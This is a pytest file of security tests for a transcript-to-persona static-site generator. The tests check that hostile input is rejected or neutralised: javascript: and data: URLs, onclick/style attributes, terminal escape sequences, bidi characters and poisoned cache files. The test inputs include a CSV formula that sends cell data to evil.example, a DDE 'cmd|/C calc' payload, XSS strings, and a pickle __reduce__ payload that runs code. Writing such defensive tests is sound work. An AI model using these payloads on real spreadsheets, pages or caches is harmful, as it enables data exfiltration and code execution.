"""SECURITY.md, items 26 on: the trust boundaries of issue 21, each tried and shut."""

from __future__ import annotations

import json
import os
import sys
import subprocess
import shutil
import unicodedata
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import site_files

GOOD = "**Dana Whitfield:** [A fine quote.]{.pain}\n\n**Priya Raman:** [Another.]{.criteria}\n"


# 26. base_url is a path or an http(s):// URL: never a script in every link.
@pytest.mark.parametrize("url", ["javascript://%0aalert(document.domain)//", "JavaScript:alert(1)", "data:text/html,x",
                                 "//evil.example/", "/a b/", "vbscript://x"])
def test_base_url_that_is_not_a_path_or_http_is_an_error_at_its_line(repo, url, tmp_path):
    repo.transcript("a.md", GOOD)
    repo.write("persona-site.toml", f'title = "T"\nbase_url = "{url}"\n')
    out = tmp_path / "site"
    result = repo.run("build", "--out", str(out))
    assert result.exit_code == 1
    assert "persona-site.toml:2: error: 'base_url' must be a path such as '/personas/' or an http:// or https:// URL" in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("url", ["javascript://%0aalert(document.domain)//", "//evil.example/"])
def test_base_url_option_that_is_not_a_path_or_http_is_a_usage_error(repo, url, tmp_path):
    repo.transcript("a.md", GOOD)
    out = tmp_path / "site"
    result = repo.run("build", "--out", str(out), "--base-url", url)
    assert result.exit_code == 2
    assert "--base-url" in result.stderr and "must be a path such as '/personas/'" in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("url", ["/", "/team/", "team", "https://example.com/personas/", "HTTP://intranet:8080"])
def test_paths_and_http_urls_are_good_base_urls(repo, url, tmp_path):
    repo.transcript("a.md", GOOD)
    repo.write("persona-site.toml", f'base_url = "{url}"\n')
    assert repo.run("build", "--out", str(tmp_path / "site")).exit_code == 0


# 27. Attribute syntax: a span publishes its tags and a q- id, nothing else, whatever mdit-py-plugins keeps.
def _attributes(html: str) -> list[tuple[str, str | None]]:
    """Every (name, value) of every element's attributes in html."""
    found: list = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: found.extend(attrs)
    parser.feed(html)
    return found


HOSTILE_SPANS = ('**Dana Whitfield:** [Click here.]{.pain style="position:fixed;inset:0;z-index:9" onclick="alert(1)"} '
                 'and [Mine.]{#evil .pain target=_blank} and [plain]{style="color:red" href="javascript:alert(1)"} '
                 'and [a link](https://example.com){target=_blank style="x"} and [Kept.]{#q-kept .criteria}\n')


def test_span_attributes_other_than_tags_and_a_q_id_never_reach_a_page(repo, tmp_path):
    repo.write("persona-site.toml", "publish_transcripts = true\n")
    repo.write("content/personas/vp-sales.md", '---\ntitle: VP Sales\n---\nSee [this]{style="position:fixed" #top}.\n')
    repo.transcript("a.md", HOSTILE_SPANS)
    out = tmp_path / "site"
    result = repo.run("build", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "content/transcripts/a.md:11: warning: the attribute 'style' is not published" in result.stderr
    assert "content/transcripts/a.md:11: warning: the id '#evil' is not published" in result.stderr
    pages = [p.read_text("utf-8") for p in out.rglob("*.html")]
    pages += [q["html"] for q in json.loads((out / "quotes.json").read_text())["quotes"]]
    found = [attribute for page in pages for attribute in _attributes(page)]
    assert ("data-quote-id", "q-kept") in found  # the parser sees the quotes' markup
    assert not [(name, value) for name, value in found if name in ("style", "onclick", "target")
                or (name == "id" and value in ("evil", "top")) or "javascript" in (value or "")]
    quotes = json.loads((out / "quotes.json").read_text())["quotes"]
    assert {q["text"] for q in quotes} == {"Click here.", "Mine.", "Kept."}
    assert "q-kept" in {q["id"] for q in quotes} and "evil" not in {q["id"] for q in quotes}


def test_span_attributes_are_dropped_by_our_renderer_not_by_the_plugin_version():
    # The tokens an older mdit-py-plugins (0.6.1) makes of [x]{onclick=... style=... #other .pain}.
    from markdown_it.token import Token

    from persona_site.markdown import markdown

    span = Token("span_open", "span", 1, attrs={"onclick": "alert(1)", "style": "position:fixed", "target": "_blank",
                                                 "href": "javascript:alert(1)", "id": "other", "class": "pain"})
    tokens = [span, Token("text", "", 0, content="x"), Token("span_close", "span", -1)]
    md = markdown()
    assert md.renderer.renderInline(tokens, md.options, {}) == '<span class="pain">x</span>'
    span.attrs["id"] = "q-mine"
    assert md.renderer.renderInline(tokens, md.options, {}) == '<span id="q-mine" class="pain">x</span>'


# 28. Names are compared after Unicode normalisation: a label typed in NFD is the participant written in NFC.
ZOE_NFC, ZOE_NFD = unicodedata.normalize("NFC", "Zoë Müller"), unicodedata.normalize("NFD", "Zoë Müller")
ZOE_PEOPLE = f"  {ZOE_NFC}: head-of-revops\n  Sam Ortiz: internal\n"
ZOE_BODIES = [f"**{ZOE_NFD}:** [It hurts.]{{.pain}}\n", f"{ZOE_NFD}: [It hurts.]{{.pain}}\n",
              f"**{ZOE_NFD.upper()}:** [00:01:02] [It *hurts*.]{{.pain}}\n\n> aside\n"]


@pytest.mark.parametrize("body", ZOE_BODIES)
def test_a_label_in_nfd_names_the_participant_written_in_nfc(repo, body):
    repo.write("persona-site.toml", 'attribution = "name"\n')
    repo.transcript("a.md", body, participants=ZOE_PEOPLE)
    result = repo.run("quotes", "--format", "json")
    assert result.exit_code == 0, result.output
    assert "not in the participants" not in result.stderr
    [quote] = json.loads(result.stdout)["quotes"]
    assert quote["role"] == "head-of-revops" and quote["speaker"] == ZOE_NFC


@pytest.mark.parametrize("body", ZOE_BODIES + [f"**{ZOE_NFD}:** a\n\n**Sam Ortiz:** b [c]{{.pain}}\n"])
@pytest.mark.parametrize("render", [False, True])
def test_the_fast_paths_match_nfd_labels_as_markdown_it_does(body, render):
    from persona_site.config import DEFAULT_TAGS
    from persona_site.model import Participant
    from persona_site.quotes import Walk, extract_quotes
    from persona_site.quotes_fast import try_extract

    people = (Participant(ZOE_NFC, "head-of-revops", None), Participant("Sam Ortiz", "internal", None))
    kwargs = dict(path="p.md", line_offset=7, participants=people, tags=DEFAULT_TAGS, render_body=render,
                  speaker_label=(lambda who: "Speaker" if who is None else who.role) if render else None)
    slow = extract_quotes(body, Walk.start(**kwargs))
    fast = try_extract(body, Walk.start(**kwargs)) or slow  # as reader.read_transcript extracts
    assert fast.quotes == slow.quotes and fast.body_html == slow.body_html
    assert sorted(map(str, fast.diagnostics)) == sorted(map(str, slow.diagnostics))
    assert not any("not in the participants" in str(d) for d in fast.diagnostics)


# 29. Two participants whose names differ only in case or Unicode form are one person: an error at the second.
@pytest.mark.parametrize("second", ["SAM ORTIZ", "sam  ortiz", unicodedata.normalize("NFD", "Sam Ortíz")])
def test_a_colleague_written_twice_is_an_error_not_a_buyer(repo, second):
    first = "Sam Ortíz" if "\u0301" in second else "Sam Ortiz"
    repo.transcript("a.md", f"**{first}:** [We spend days on this.]{{.pain}}\n",
                    participants=f"  {first}: internal\n  {second}: head-of-revops\n")
    result = repo.run("check")
    assert result.exit_code == 1
    assert (f"content/transcripts/a.md:7: error: '{second}' is '{first}' again (names are compared ignoring case and "
            "Unicode form)") in result.stderr
    assert json.loads(repo.run("quotes", "--format", "json").stdout or '{"quotes": []}')["quotes"] == []


# 30. CSV cells that a spreadsheet would run as a formula start with a ' instead.
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_start_a_formula_are_neutralised_in_every_text_column(repo, start):
    import csv
    import io

    formula = f'{start}HYPERLINK("https://evil.example/?d="&A1,"Click")'
    repo.write("persona-site.toml", 'attribution = "name"\n')
    path = repo.transcript("a.md", f"**{start}cmd|' /C calc'!A0:** [{formula}]{{.pain}} and [{start}SUM(1+1)]{{.objection}}\n",
                           participants=f"  \"{start}cmd|' /C calc'!A0\": {{role: head-of-revops, title: '{start}1 evil'}}\n")
    path.write_text(path.read_text().replace("company: Acme Corp", f"company: '{formula}'"))
    result = repo.run("quotes", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 2
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert {row["company"] for row in rows} == {f"'{formula}"}
    assert {row["speaker"] for row in rows} == {f"'{start}cmd|' /C calc'!A0"}
    assert {row["title"] for row in rows} == {f"'{start}1 evil"}
    assert {row["text"] for row in rows} == {f"'{formula}", f"'{start}SUM(1+1)"}


def test_csv_cells_starting_with_tab_or_cr_are_neutralised_and_others_kept():
    from persona_site.cli import _cell

    assert [_cell(v) for v in ("\tx", "\rx", "a=b", "", 7, None)] == ["'\tx", "'\rx", "a=b", "", 7, None]


# 31. Control characters from content reach the terminal escaped: no window title set, no screen cleared.
def test_escape_sequences_from_content_are_shown_escaped_in_check_and_quotes(repo, monkeypatch):
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    path = repo.transcript("a.md", "**Dana\x1b]0;pwned\x07:** hello\n\n**Dana Whitfield:** [It \x1bc\x9b2J hurts\u202e.]{.pain}\n")
    path.write_text(path.read_text().replace("company: Acme Corp", 'company: "Acme\\e]0;title\\a"'))
    check = repo.run("check")
    assert "speaker 'Dana\\x1b]0;pwned\\x07' is not in the participants" in check.stderr
    assert "::warning file=content/transcripts/a.md,line=11::speaker 'Dana\\x1b]0;pwned\\x07'" in check.stdout
    quotes = repo.run("quotes")
    assert "Acme\\x1b]0;title\\x07" in quotes.stdout and "It \\x1bc\\x9b2J hurts\\u202e." in quotes.stdout
    for output in (check.stdout, check.stderr, quotes.stdout, quotes.stderr):
        assert not any(c in output for c in "\x1b\x07\x9b\u202e")


# 32. Bidirectional controls in a quote: a warning at its line, and on every page the quote's words are isolated.
_VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}


class _Isolation(HTMLParser):
    """For each text holding U+202E: whether an open element inside the quote's element (data-quote-id) isolates it."""

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[tuple[str, dict]] = []
        self.found: list[bool] = []

    def handle_starttag(self, tag, attrs):
        if tag not in _VOID:
            self.stack.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        while self.stack and self.stack.pop()[0] != tag:
            pass

    def handle_data(self, data):
        if "\u202e" in data:
            quote = next((i for i, (_, a) in enumerate(self.stack) if "data-quote-id" in a), None)
            self.found.append(quote is not None and any(
                tag == "bdi" or a.get("dir") == "auto" for tag, a in self.stack[quote:]))


def test_bidi_controls_in_a_quote_warn_and_every_page_isolates_the_quote(repo, tmp_path):
    repo.write("persona-site.toml", "publish_transcripts = true\n")
    repo.transcript("a.md", "**Dana Whitfield:** Fine.\n\n[We pay \u202e0001$ a month]{.pain} says the invoice.\n")
    out = tmp_path / "site"
    result = repo.run("build", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "content/transcripts/a.md:13: warning: this quote holds a bidirectional control character" in result.stderr
    isolated = []
    for page in out.rglob("*.html"):
        parser = _Isolation()
        parser.feed(page.read_text("utf-8"))
        isolated += [(page.relative_to(out).as_posix(), ok) for ok in parser.found]
    pages = {page for page, _ in isolated}
    assert {"index.html", "personas/head-of-revops/index.html", "tags/pain/index.html",
            "transcripts/a/index.html"} <= pages
    assert [item for item in isolated if not item[1]] == []


# 33. Tracebacks where a message belongs.
@pytest.mark.parametrize("links", [{"loop.md": "b.md", "b.md": "loop.md"}, {"again": "."}, {"2026/up": ".."}])
@pytest.mark.parametrize("git", [False, True])
def test_a_loop_of_links_in_content_is_an_error_not_a_traceback(repo, links, git):
    repo.transcript("a.md", GOOD)
    folder = repo.root / "content/transcripts"
    for name, target in links.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(target)
    if git:
        repo.commit_all()
    result = repo.run("check")
    assert result.exit_code == 1
    for name in links:
        assert f"content/transcripts/{name}: error: this link leads back to itself" in result.stderr


def test_an_output_path_too_long_is_a_message_and_the_previous_site_stays(repo):
    repo.transcript("a.md", GOOD)
    assert repo.run("build").exit_code == 0
    before = site_files(repo.root / "site")
    repo.write("persona-site.toml", f'[tags]\n{"a" * 300} = "Long"\npain = "Pain"\ncriteria = "Criteria"\n')
    result = repo.run("build")
    assert result.exit_code == 1
    assert f"error: a path in the site is too long for this disk ({repo.root / 'site'}/personas/" in result.stderr
    assert "Shorten the name it comes from" in result.stderr
    assert site_files(repo.root / "site") == before
    assert [p.name for p in repo.root.iterdir() if p.name.startswith(".persona-site-")] == []


def test_an_output_folder_inside_a_file_is_a_message_not_a_traceback(repo, tmp_path):
    """No spool can be made beside such a folder (the build command's pages go there as they are made): the
    build goes on with its pages in memory, and writing them says what the disk refused."""
    repo.transcript("a.md", GOOD)
    (tmp_path / "a-file").write_text("not a folder\n")
    result = repo.run("build", "--out", str(tmp_path / "a-file" / "site"))
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"error: could not write {tmp_path / 'a-file'}: File exists; the previous site is unchanged" in result.stderr


@pytest.mark.parametrize("in_place", [True, False], ids=["site updated in place", "a new site folder"])
def test_a_full_disk_is_a_message_and_the_previous_site_stays(repo, monkeypatch, in_place):
    """The disk fills as the build command writes a page to its spool (as it is made) or the site: the same
    message either way (a page half written to the spool is removed, not left where the site is written)."""
    import errno
    import os

    from persona_site import output

    if not in_place:
        monkeypatch.setattr(output, "IN_PLACE_MAX", 0)

    repo.transcript("a.md", GOOD)
    assert repo.run("build").exit_code == 0
    before = site_files(repo.root / "site")
    repo.write("persona-site.toml", 'title = "Every page changes"\n')
    real, calls = os.write, []

    def full(handle, data):
        calls.append(1)
        if len(calls) >= 5:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real(handle, data)

    monkeypatch.setattr(os, "write", full)
    result = repo.run("build")
    monkeypatch.setattr(os, "write", real)
    assert result.exit_code == 1
    assert "error: the disk is full: " in result.stderr and "the previous site is unchanged" in result.stderr
    assert "Traceback" not in result.output
    assert site_files(repo.root / "site") == before
    assert [p.name for p in repo.root.iterdir() if p.name.startswith(".persona-site-")] == []


def test_import_of_an_endless_file_stops_at_the_size_limit(repo):
    result = repo.run("import", "/dev/zero", "--dry-run")
    assert result.exit_code == 1
    assert "/dev/zero: error: this file holds more than the limit of 5 MB: split it" in result.stderr


def test_rev_refuses_a_blob_over_the_limit_without_reading_it(repo, monkeypatch):
    from persona_site import gitmeta

    repo.transcript("a.md", GOOD)
    repo.write("content/transcripts/huge.md", "x" * (40 * 1024 * 1024))
    repo.commit_all()
    read = []
    real = gitmeta._git

    def counted(root, *args, **how):
        out = real(root, *args, **how)
        read.append(len(out))
        return out

    monkeypatch.setattr(gitmeta, "_git", counted)
    result = repo.run("check", "--rev", "HEAD")
    assert result.exit_code == 1
    assert "content/transcripts/huge.md: error: this file is 41.9 MB; the limit is 5 MB: split it" in result.stderr
    assert max(read) < 1024 * 1024  # git's answers: the 40 MB blob was never read


# 36. serve under a flood of idle connections: bounded, timed out, and no edit lost to an error.
def test_idle_connections_are_bounded_and_closed_and_the_preview_answers_again(tmp_path, monkeypatch):
    import socket
    import time

    from serve_helpers import make_repo, serving

    from persona_site import serve

    monkeypatch.setattr(serve, "MAX_CONNECTIONS", 8, raising=False)
    monkeypatch.setattr(serve, "IDLE_SECONDS", 1.0, raising=False)
    with serving(make_repo(tmp_path / "repo"), watch=False) as running:
        idle = [socket.create_connection(("127.0.0.1", running.port), timeout=5) for _ in range(40)]
        started = time.monotonic()
        try:
            assert [connection.recv(1) for connection in idle] == [b""] * 40  # each closed by the server
        finally:
            for connection in idle:
                connection.close()
        assert time.monotonic() - started < 4
        assert running.get("").status == 200


def test_live_reload_streams_are_capped(tmp_path, monkeypatch):
    from serve_helpers import make_repo, serving

    from persona_site import serve

    monkeypatch.setattr(serve, "MAX_STREAMS", 2, raising=False)
    with serving(make_repo(tmp_path / "repo")) as running, running.events() as one, running.events() as two:
        assert one.next_state() and two.next_state()
        refused = running.get(serve.EVENTS)
        assert refused.status == 503
        assert running.get("").status == 200


def test_an_error_outside_the_build_is_shown_and_the_next_save_keeps_the_edit(tmp_path, monkeypatch):
    import errno

    from serve_helpers import make_repo, serving, transcript, wait_until, write

    from persona_site import preview

    source = make_repo(tmp_path / "repo")
    with serving(source) as running, running.events() as stream:
        stream.next_state()
        real, failures = preview.base_path_of, []

        def out_of_files(root):  # the open-file limit, reached by a flood of connections
            if not failures:
                failures.append(1)
                raise OSError(errno.EMFILE, "Too many open files")
            return real(root)

        monkeypatch.setattr(preview, "base_path_of", out_of_files)
        write(source, "content/transcripts/2026/acme.md", transcript("The first edit."))
        state = stream.next_state(lambda s: s["errors"])
        assert "the content could not be read (Too many open files)" in state["errors"][0]["message"]
        write(source, "content/transcripts/2026/globex.md", transcript("The second edit.", speaker="Priya Raman"))
        running.wait_for_text("quotes.json", "The second edit.")
        assert "The first edit." in running.get("quotes.json").text
        wait_until(lambda: not running.preview.site.current.errors, what="the overlay to go")


# 37. The cache cannot run code: every file in it is sealed with a key kept outside the repository.
class _Payload:
    """Unpickled, it makes the file `marker`: what a pickle committed to .persona-cache/ could do."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return open, (self.marker, "w")


def _poison(folder, marker) -> list[str]:
    """Every cache file in `folder` replaced by a pickle that runs code (Jinja's compiled templates: the same
    pickle after Jinja's magic, where Jinja unpickles a checksum); their names, relative to folder."""
    import pickle

    from jinja2.bccache import bc_magic

    evil = pickle.dumps(_Payload(str(marker)))
    poisoned = []
    for path in folder.rglob("*"):
        if path.is_file() and path.name not in (".gitignore", "last-build.json"):
            path.write_bytes(bc_magic + evil if path.parent.name == "templates" else evil)
            poisoned.append(path.relative_to(folder).as_posix())
    return poisoned


def test_a_pickle_committed_to_the_cache_never_runs_in_check_build_or_serve(repo, tmp_path, monkeypatch):
    from persona_site.build import BuildOptions
    from persona_site.serve import preview_builder

    monkeypatch.delenv("PERSONA_SITE_CACHE_KEY", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "someone-else"))  # who wrote the cache (another machine)
    repo.write("persona-site.toml", "publish_transcripts = true\n")
    repo.transcript("a.md", GOOD)
    repo.commit_all()
    assert repo.run("build", "--out", str(tmp_path / "first")).exit_code == 0
    marker = tmp_path / "code-ran"
    poisoned = _poison(repo.root / ".persona-cache", marker)
    assert {"build.pickle", "last-build.pickle"} <= set(poisoned)
    assert any(p.startswith("work-tree-") for p in poisoned) and any(p.startswith("templates/") for p in poisoned)
    repo.git("add", "-f", ".persona-cache")  # committed: a fresh clone has it
    repo.git("commit", "-qm", "cache")

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "me"))  # this user's key: not the one the files claim
    assert repo.run("check").exit_code == 0
    result = repo.run("build", "--out", str(tmp_path / "site"))
    assert result.exit_code == 0, result.output
    rebuild, _save = preview_builder(repo.root)
    assert rebuild(None, BuildOptions()).ok
    _poison(repo.root / ".persona-cache", marker)  # poisoned again, now that this user has written the cache
    assert repo.run("build", "--out", str(tmp_path / "again")).exit_code == 0
    assert not marker.exists()
    assert site_files(tmp_path / "site") == site_files(tmp_path / "again")  # built from the content, as before
    assert [q["text"] for q in json.loads((tmp_path / "site" / "quotes.json").read_text())["quotes"]] == [
        "A fine quote.", "Another."]


def _sealed_part(data: bytes) -> tuple[int, dict]:
    """A shard file's sealed part: its length, and the entries it holds (cache key -> entry)."""
    import pickle

    from persona_site.incremental import signing

    length = int.from_bytes(data[:8], "big")
    return length, pickle.loads(signing.opened(data[8:8 + length]))["transcripts"]


def _frozen_transcripts_changed(repo, marker: Path, name: str) -> None:
    """The frozen form of transcripts/<name> in the cache's shard file replaced in place by a pickle that makes
    `marker`, the shard's sealed part as the build wrote it."""
    import pickle

    changed = 0
    for shard in (repo.root / ".persona-cache").glob("transcripts-*.pickle"):
        data = bytearray(shard.read_bytes())
        length, entries = _sealed_part(bytes(data))
        for key, entry in entries.items():
            if entry[0] is not None and key[1] == f"content/transcripts/{name}":
                offset, size = 8 + length + entry[0][1], entry[0][2]
                data[offset:offset + size] = pickle.dumps(_Payload(str(marker))).ljust(size, b"\0")
                changed += 1
                with open(shard, "r+b") as handle:  # in place
                    handle.write(data)
    assert changed == 1


def _quote_lines_changed(repo, name: str, old: bytes, new: bytes) -> None:
    """In the cache's shard file, the JSON line of each quote of transcripts/<name> with `old` in it changed in place
    to say `new` (as long), the shard's sealed part as the build wrote it."""
    import pickle

    from persona_site.incremental import signing

    assert len(old) == len(new)
    changed = 0
    for shard in (repo.root / ".persona-cache").glob("transcripts-*.pickle"):
        data = bytearray(shard.read_bytes())
        length = int.from_bytes(data[:8], "big")
        state = pickle.loads(signing.opened(bytes(data[8:8 + length])))
        start = 8 + length + state["parts"][1]
        for key, entry in state["transcripts"].items():
            for ref in entry.quotes if key[1] == f"content/transcripts/{name}" else ():
                offset, size = start + (ref.encoded >> 32), ref.encoded & 0xFFFFFFFF
                if old in data[offset:offset + size]:
                    data[offset:offset + size] = data[offset:offset + size].replace(old, new)
                    changed += 1
        shard.write_bytes(data)
    assert changed


def test_a_quote_line_changed_in_its_cache_file_is_never_published_and_is_parsed_again(repo, tmp_path):
    """The quotes' JSON lines follow the frozen transcripts in a shard file, each read when a month that holds it is
    written again, and checked by the digest the sealed part keeps. A line changed there (a disk error, another
    program) is never published: the build makes what a build without that file makes, and `quotes` says what the
    transcript says."""
    for name, day in (("a.md", "2026-03-02"), ("b.md", "2026-03-09"), ("c.md", "2026-05-04")):
        repo.transcript(name, GOOD.replace("A fine quote.", f"Quote of {name}."), date=day)
    repo.commit_all()
    assert repo.run("build").exit_code == 0
    _quote_lines_changed(repo, "a.md", b"Quote of a.md.", b"Forged line!!!")
    repo.transcript("b.md", GOOD.replace("A fine quote.", "Quote of b.md, edited."), date="2026-03-09")
    for attempt in range(2):  # and the next build finds the cache whole
        result = repo.run("build")
        assert result.exit_code == 0 and "Traceback" not in result.output, result.output
        assert b"Forged" not in b"".join(path.read_bytes() for path in (repo.root / "site").rglob("*") if path.is_file())
        assert site_files(repo.root / "site") == site_files(_cold_site(repo, tmp_path))
    _quote_lines_changed(repo, "a.md", b"Quote of a.md.", b"Forged line!!!")
    for _ in range(2):  # quotes never writes the cache: each run finds the damage
        listed = repo.run("quotes", "--format", "json")
        assert listed.exit_code == 0, listed.output
        assert "Quote of a.md." in listed.output and "Forged" not in listed.output


def _published(repo, *names: str, config: str = "") -> None:
    repo.write("persona-site.toml", "publish_transcripts = true\n" + config)
    for n, name in enumerate(names):
        repo.transcript(name, GOOD.replace("A fine quote.", f"Quote of {name}."), date=f"2026-{n + 1:02d}-10")
    repo.commit_all()
    assert repo.run("build").exit_code == 0


def _cache_whole(repo) -> bool:
    """Every frozen transcript of the cache reads back as it was frozen."""
    from persona_site.incremental import cache
    from persona_site.model import thaw

    entries = cache.load(repo.root / ".persona-cache")["transcripts"].values()
    return all(thaw(entry.transcript) for entry in entries if entry.transcript is not None)


def _shard_of(repo, name: str) -> str:
    for shard in (repo.root / ".persona-cache").glob("transcripts-*.pickle"):
        if f"content/transcripts/{name}" in {key[1] for key in _sealed_part(shard.read_bytes())[1]}:
            return shard.name
    raise AssertionError(name)


@pytest.mark.parametrize("where", ["planning the pages", "writing a page made again", "two files"])
def test_a_frozen_transcript_changed_in_its_cache_file_never_runs_and_is_parsed_again(repo, tmp_path, where):
    """The cache's sealed part names each frozen transcript's SHA-256; the transcripts after it are read only when a
    page shows one. Bytes changed there (another program, a disk error) are never unpickled: as with any damage to
    the cache, the build makes what a build without it makes, and its save writes the file whole again. Wherever the
    damage is found: as the pages are planned (the persona page's latest quotes), as the site is written (a page
    whose inputs are the same, made again because its file is gone), or in two files, one after the other."""
    marker = tmp_path / "code-ran"
    names = ["old.md", "b.md", "c.md", "d.md", "e.md", "f.md", "g.md", "h.md"]
    _published(repo, *names, config="quotes_per_role = 1\n" if where == "writing a page made again" else "")
    _frozen_transcripts_changed(repo, marker, "old.md")
    if where == "two files":  # the newest transcript but the one edited, of another shard file, too
        other = next(name for name in reversed(names[:-1]) if _shard_of(repo, name) != _shard_of(repo, "old.md"))
        _frozen_transcripts_changed(repo, marker, other)
    if where == "writing a page made again":  # old.md's quotes are on no page planned: only its own page reads it
        (repo.root / "site/transcripts/old/index.html").unlink()
    else:
        repo.transcript("h.md", GOOD.replace("A fine quote.", "Edited."), date="2026-08-10")
    for attempt in range(2):  # and the next build finds the cache whole
        result = repo.run("build")
        assert result.exit_code == 0, result.output
        assert not marker.exists() and "Traceback" not in result.output
        assert "Quote of old.md." in (repo.root / "site/transcripts/old/index.html").read_text()
        assert site_files(repo.root / "site") == site_files(_cold_site(repo, tmp_path))
    assert _cache_whole(repo) and not marker.exists()


def test_quotes_and_check_read_a_changed_frozen_transcript_from_its_file_again_on_every_run(repo, tmp_path):
    """check and quotes never write the cache: each run finds the damage, leaves that file out and parses again."""
    marker = tmp_path / "code-ran"
    _published(repo, "old.md", "b.md", "c.md")
    _frozen_transcripts_changed(repo, marker, "old.md")
    for _ in range(2):
        listed = repo.run("quotes", "--tag", "pain")
        assert listed.exit_code == 0, listed.output
        assert "Quote of old.md." in listed.output and not marker.exists()
        assert repo.run("check").exit_code == 0 and not marker.exists()


def test_a_build_that_starts_again_at_damage_writes_no_page_of_its_first_attempt(repo, tmp_path, monkeypatch):
    """A transcript parsed again by the first attempt (touched, its key holds its time) has its page spooled as it is
    read; the damage is found after; the attempt that builds starts with a new spool, where that page is not, and
    writes the site a cold build writes (a new site folder, as a large change writes)."""
    from persona_site import output

    marker = tmp_path / "code-ran"
    repo.write("persona-site.toml", "publish_transcripts = true\n")
    repo.transcript("old.md", GOOD.replace("A fine quote.", "Quote of old."), date="2026-01-10")
    repo.transcript("b.md", GOOD.replace("A fine quote.", "Quote of b."), date="2026-02-10")
    repo.commit_all()
    extra = repo.transcript("extra.md", GOOD.replace("A fine quote.", "Quote of extra."), date="2026-03-10")
    os.utime(extra, (1_700_000_000, 1_700_000_000))
    assert repo.run("build").exit_code == 0
    _frozen_transcripts_changed(repo, marker, "old.md")
    repo.transcript("b.md", GOOD.replace("A fine quote.", "Quote of b, edited."), date="2026-02-10")
    os.utime(extra, (1_700_000_100, 1_700_000_100))
    monkeypatch.setattr(output, "IN_PLACE_MAX", 0)  # a new site folder: the spool itself
    result = repo.run("build")
    assert result.exit_code == 0, result.output
    assert not marker.exists()
    assert site_files(repo.root / "site") == site_files(_cold_site(repo, tmp_path))


def _cold_site(repo, tmp_path: Path) -> Path:
    out = tmp_path / "cold"
    shutil.rmtree(out, ignore_errors=True)
    result = repo.run("build", "--out", str(out), env={"PERSONA_SITE_CACHE": "off"})
    assert result.exit_code == 0, result.output
    return out


def test_serve_parses_a_changed_frozen_transcript_again_and_shows_the_site(repo, tmp_path):
    from persona_site.preview import LiveSite

    marker = tmp_path / "code-ran"
    names = ["a.md", "b.md", "c.md", "d.md", "e.md", "f.md"]
    _published(repo, *names)
    _frozen_transcripts_changed(repo, marker, "a.md")
    other = next(name for name in reversed(names) if _shard_of(repo, name) != _shard_of(repo, "a.md"))
    _frozen_transcripts_changed(repo, marker, other)  # two files: found one after the other
    site = LiveSite(repo.root, live_reload=False)
    assert site.rebuild().ok and not marker.exists()
    page = site.current.outputs["transcripts/a/index.html"]
    assert b"Quote of a.md." in (page() if callable(page) else page)
    site.save_cache()
    assert _cache_whole(repo) and not marker.exists()


def test_the_cache_key_is_made_outside_the_repository_for_its_owner_only(repo, tmp_path, monkeypatch):
    monkeypatch.delenv("PERSONA_SITE_CACHE_KEY", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache-home"))
    repo.transcript("a.md", GOOD)
    assert repo.run("build", "--out", str(tmp_path / "site")).exit_code == 0
    key = tmp_path / "cache-home" / "persona-site" / "key"
    assert key.stat().st_mode & 0o777 == 0o600 and len(key.read_bytes()) >= 32
    assert not [p for p in repo.root.rglob("*key*")]
    from persona_site.incremental import PersistentEngine

    assert len(PersistentEngine(repo.root).store.entries) == 1  # the sealed cache is read back


# 38. One paragraph with many quotes is extracted in linear time: each span's line is counted on from the last one.
class _Counted(str):
    """A paragraph that tallies the characters its str.count calls scan: the work of counting lines."""

    scanned = 0

    def count(self, sub, start=0, end=None):
        end = len(self) if end is None else end
        _Counted.scanned += max(0, end - start)
        return super().count(sub, start, end)


@pytest.mark.parametrize("between", ["\n", " `c` \n", " "])
def test_the_lines_of_many_quotes_in_one_paragraph_are_counted_in_linear_work(between):
    from persona_site.spans_fast import simple_spans

    paragraph = _Counted("**Dana Whitfield:** " + between.join(f"[Words {i}.]{{.pain}}" for i in range(3000)))
    _Counted.scanned = 0
    spans = simple_spans(paragraph)
    assert [line for line, *_ in spans] == [i * between.count("\n") for i in range(3000)]
    assert _Counted.scanned <= 2 * len(paragraph)  # was the sum of every span's offset: 1,500 times the paragraph


@pytest.mark.parametrize("tail", ["", "\n\n# A heading: markdown-it's walk\n", "\n\n*a* `b`\n"])
def test_a_paragraph_of_many_quotes_gives_each_its_line_on_every_path(tail):
    from test_fastpath import assert_same, both

    body = "**Dana Whitfield:** " + "\n".join(f"[Words {i}.]{{.pain}} `c{i % 5}` `` d ``" for i in range(400)) + tail
    fast, slow = both(body)
    assert [q.line for q in slow.quotes] == [8 + i for i in range(400)]  # line_offset 7: the body's first line is 8
    assert_same(body)


# 39. attribution = "role" withholds the company: no transcript path (named after the company) in any output.
def test_role_attribution_publishes_no_transcript_path_that_names_the_company(repo, tmp_path):
    repo.write("persona-site.toml", 'attribution = "role"\npublish_transcripts = true\n')
    repo.transcript("2026/2026-10-14-globex-discovery.md", GOOD)
    out = tmp_path / "site"
    result = repo.run("build", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert ('persona-site.toml:2: warning: transcripts are not published with attribution = "role": a transcript\'s '
            "file name, title and words can name the company it withholds") in result.stderr
    leaks = [p.relative_to(out).as_posix() for p in out.rglob("*") if "globex" in p.as_posix().lower()
             or p.is_file() and b"globex" in p.read_bytes().lower()]
    assert leaks == []
